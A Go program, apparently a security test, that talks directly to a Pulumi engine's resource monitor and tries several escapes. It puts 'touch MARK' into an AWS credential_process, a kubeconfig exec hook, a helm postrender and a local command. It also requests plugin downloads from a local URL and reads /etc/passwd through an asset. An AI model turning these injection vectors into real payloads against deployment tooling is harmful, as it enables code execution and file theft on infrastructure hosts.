// Thief is a program that speaks to the engine as no SDK would, and ends as if all were well. Each attempt would make
// the engine or a provider run "touch MARK", read a file or call somewhere.
package main

import (
	"context"
	"fmt"
	"os"
	"path/filepath"

	"github.com/pulumi/pulumi/sdk/v3/go/pulumi"
	pulumirpc "github.com/pulumi/pulumi/sdk/v3/proto/go"
	"google.golang.org/grpc"
	"google.golang.org/grpc/credentials/insecure"
	"google.golang.org/protobuf/types/known/emptypb"
	"google.golang.org/protobuf/types/known/structpb"
)

const kubeconfig = `{"apiVersion": "v1", "kind": "Config", "current-context": "c",
	"clusters": [{"name": "c", "cluster": {"server": "https://127.0.0.1:1"}}],
	"contexts": [{"name": "c", "context": {"cluster": "c", "user": "u"}}],
	"users": [{"name": "u", "user": {"exec": {"apiVersion": "client.authentication.k8s.io/v1", "command": "touch", "args": ["MARK"], "interactiveMode": "Never"}}}]}`

func main() {
	ctx := context.Background()
	conn, err := grpc.NewClient(os.Getenv(pulumi.EnvMonitor), grpc.WithTransportCredentials(insecure.NewCredentials()))
	if err != nil {
		panic(err)
	}
	monitor := pulumirpc.NewResourceMonitorClient(conn)
	try := func(what string, err error) { fmt.Fprintf(os.Stderr, "%s: %v\n", what, err) }

	config := filepath.Join(os.TempDir(), fmt.Sprintf("thief-%d", os.Getpid()))
	_ = os.WriteFile(config, []byte("[profile thief]\nregion = us-east-1\ncredential_process = touch MARK\n"), 0o644)
	root, err := monitor.RegisterResource(ctx, &pulumirpc.RegisterResourceRequest{Type: "pulumi:pulumi:Stack", Name: "platform-dev"})
	try("stack", err)
	register := func(r *pulumirpc.RegisterResourceRequest) *pulumirpc.RegisterResourceResponse {
		r.Custom, r.Parent = true, root.GetUrn()
		response, err := monitor.RegisterResource(ctx, r)
		try(r.Name, err)
		return response
	}
	object := func(fields map[string]any) *structpb.Struct {
		made, err := structpb.NewStruct(fields)
		if err != nil {
			panic(err)
		}
		return made
	}

	register(&pulumirpc.RegisterResourceRequest{Type: "command:local:Command", Name: "package", Object: object(map[string]any{"create": "touch MARK"})})
	register(&pulumirpc.RegisterResourceRequest{Type: "kubernetes:helm.sh/v3:Release", Name: "chart", Object: object(map[string]any{"chart": "x", "postrender": "touch MARK"})})
	register(&pulumirpc.RegisterResourceRequest{Type: "aws:s3/bucket:Bucket", Name: "download", PluginDownloadURL: "http://127.0.0.1:1/thief", Version: "9.9.9"})
	provider := register(&pulumirpc.RegisterResourceRequest{Type: "pulumi:providers:aws", Name: "account", Object: object(map[string]any{
		"region": "us-east-1", "profile": "thief", "sharedConfigFiles": `["` + config + `"]`, "skipCredentialsValidation": "false",
	})})
	if provider != nil {
		register(&pulumirpc.RegisterResourceRequest{Type: "aws:s3/bucket:Bucket", Name: "theirs", Provider: provider.GetUrn() + "::" + provider.GetId()})
	}
	provider = register(&pulumirpc.RegisterResourceRequest{Type: "pulumi:providers:kubernetes", Name: "cluster", Object: object(map[string]any{"kubeconfig": kubeconfig})})
	if provider != nil {
		register(&pulumirpc.RegisterResourceRequest{Type: "kubernetes:core/v1:Namespace", Name: "theirs", Provider: provider.GetUrn() + "::" + provider.GetId()})
	}
	register(&pulumirpc.RegisterResourceRequest{Type: "aws:s3/bucketObjectv2:BucketObjectv2", Name: "file", Object: object(map[string]any{
		"bucket": "b", "source": map[string]any{"4dabf18193072939515e22adb298388d": "c44067f5952c0a294b673a41bacd8c17", "path": "/etc/passwd"},
	})})
	_, err = monitor.Invoke(ctx, &pulumirpc.ResourceInvokeRequest{Tok: "aws:lambda/getInvocation:getInvocation", Args: object(map[string]any{"functionName": "f", "input": "{}"})})
	try("function", err)
	_, err = monitor.RegisterPackage(ctx, &pulumirpc.RegisterPackageRequest{Name: "thief", Version: "1.0.0", DownloadUrl: "http://127.0.0.1:1/thief"})
	try("package", err)
	_, err = monitor.SignalAndWaitForShutdown(ctx, &emptypb.Empty{})
	try("end", err)
}
